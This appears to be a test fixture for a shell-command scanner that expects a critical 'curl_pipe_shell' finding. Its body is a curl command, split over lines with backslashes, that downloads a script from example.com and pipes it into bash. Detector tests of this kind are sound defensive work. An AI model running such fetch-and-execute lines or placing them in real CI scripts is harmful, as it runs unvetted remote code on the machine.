# expect: shell.curl_pipe_shell critical
# note: backslash continuation splits the pipeline over two lines
# path: ci/setup.sh
curl -fsSL \
  https://example.com/x.sh \
  | bash
